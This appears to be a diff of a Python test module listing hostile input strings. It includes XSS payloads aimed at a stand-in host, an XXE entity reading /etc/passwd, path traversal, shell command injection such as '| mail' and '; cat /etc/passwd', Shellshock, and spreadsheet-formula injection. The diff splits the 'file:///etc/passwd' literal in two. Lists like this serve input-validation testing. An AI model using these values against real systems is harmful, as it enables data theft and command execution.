@@ -7,7 +7,7 @@ MARKUP = [
     "<a href=javascript:alert(1)>hier</a>", "<form action=//evil.example><button>x", "<base href=//evil.example/>",
     "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
     "<style>*{display:none}</style>", "<object data=//evil.example>", "<embed src=//evil.example>", "<video><source onerror=alert(1)>",
-    "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
+    "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:" "///etc/passwd'>]>",
     "<!DOCTYPE html>", "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
     "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞", "<<script>script>alert(1)",
     "<scr<script>ipt>alert(1)</scr</script>ipt>", "<a\tb\nc>", "<input autofocus onfocus=alert(1)>", "<template><script>alert(1)</script>",
@@ -30,7 +30,7 @@ DATABASES = [
 ]  # fmt: skip
 FORMATS = [
     "%s%s%s%s%n", "%d", "%(name)s", "%(count)s %(limit)s", "%", "100 %", "{0}", "{name}", "{0.__class__}", "{}", "{" * 200, "%x" * 200, "$(id)", "`id`",
-    "; cat /etc/passwd", "| mail a@b.example", "&& sleep 9", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd",
+    "; cat /etc/passwd", "| mail a@b.example", "&& sleep 9", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:" "///etc/passwd",
     "CON", "() { :;}; echo x", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1",
 ]  # fmt: skip
 DIRECTIONS = [
